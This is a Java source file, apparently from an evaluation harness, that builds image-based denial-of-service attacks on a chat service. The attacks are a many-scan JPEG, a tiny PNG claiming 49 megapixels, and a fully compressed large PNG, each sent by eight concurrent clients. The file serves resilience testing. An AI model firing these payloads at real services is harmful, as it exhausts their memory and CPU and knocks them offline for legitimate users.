package dev.pargo.evaluation.attack;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.util.List;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import javax.imageio.ImageIO;

/** Attacks with small files that are, or claim to be, large pictures. */
final class PictureAttacks {

    private static final int CLIENTS = 8;
    private static final int SIDE = 7000;

    private PictureAttacks() {}

    static List<Attack> all() {
        return List.of(
                new Attack(
                        "8 JPEGs of 52 KB with 95 scans of 49 megapixels",
                        target -> ask(target, resource("scans.jpg"), "jpeg")),
                new Attack(
                        "8 JPEGs with 95 scans, whose clients leave",
                        target -> askAndLeave(target, resource("scans.jpg"))),
                new Attack("8 PNGs of 100 bytes that claim 49 megapixels", target -> ask(target, png(false), "png")),
                new Attack("8 PNGs of 49 equal megapixels", target -> ask(target, png(true), "png")),
                new Attack("8 good pictures of 20 megapixels", target -> ask(target, photograph(), "png")));
    }

    private static void ask(Target target, byte[] picture, String type) throws InterruptedException {
        byte[] body = ChatBody.picture(picture, type);
        Crowd.atOnce(CLIENTS, target.replies(), number -> target.post(body, "a picture"));
    }

    private static void askAndLeave(Target target, byte[] picture) throws InterruptedException {
        byte[] body = ChatBody.picture(picture, "jpeg");
        Crowd.atOnce(CLIENTS, target.replies(), number -> {
            try (RawConnection connection = target.connect(target.door())) {
                connection.write(ChatBody.head(body.length));
                connection.write(body);
                Slowly.every(500, 2, () -> true);
            }
        });
    }

    static byte[] resource(String name) throws IOException {
        try (InputStream resource = PictureAttacks.class.getResourceAsStream(name)) {
            if (resource == null) {
                throw new IOException("no resource " + name);
            }
            return resource.readAllBytes();
        }
    }

    /** A grey PNG of 49 megapixels, with its data or with a few bytes of it. */
    private static byte[] png(boolean whole) throws IOException {
        ByteArrayOutputStream header = new ByteArrayOutputStream();
        DataOutputStream fields = new DataOutputStream(header);
        fields.writeInt(SIDE);
        fields.writeInt(SIDE);
        fields.write(new byte[] {8, 0, 0, 0, 0});
        ByteArrayOutputStream data = new ByteArrayOutputStream();
        try (DeflaterOutputStream deflater = new DeflaterOutputStream(data, new Deflater(Deflater.BEST_COMPRESSION))) {
            byte[] row = new byte[1 + SIDE];
            for (int y = 0; y < (whole ? SIDE : 1); y++) {
                deflater.write(row);
            }
        }
        ByteArrayOutputStream file = new ByteArrayOutputStream();
        file.write(new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10});
        chunk(file, "IHDR", header.toByteArray());
        chunk(file, "IDAT", data.toByteArray());
        chunk(file, "IEND", new byte[0]);
        return file.toByteArray();
    }

    private static void chunk(ByteArrayOutputStream file, String type, byte[] content) throws IOException {
        ByteArrayOutputStream checked = new ByteArrayOutputStream();
        checked.writeBytes(type.getBytes());
        checked.writeBytes(content);
        CRC32 crc = new CRC32();
        crc.update(checked.toByteArray());
        DataOutputStream out = new DataOutputStream(file);
        out.writeInt(content.length);
        out.write(checked.toByteArray());
        out.writeInt((int) crc.getValue());
    }

    private static byte[] photograph() throws IOException {
        ByteArrayOutputStream png = new ByteArrayOutputStream();
        ImageIO.write(new BufferedImage(5000, 4000, BufferedImage.TYPE_INT_RGB), "png", png);
        return png.toByteArray();
    }
}
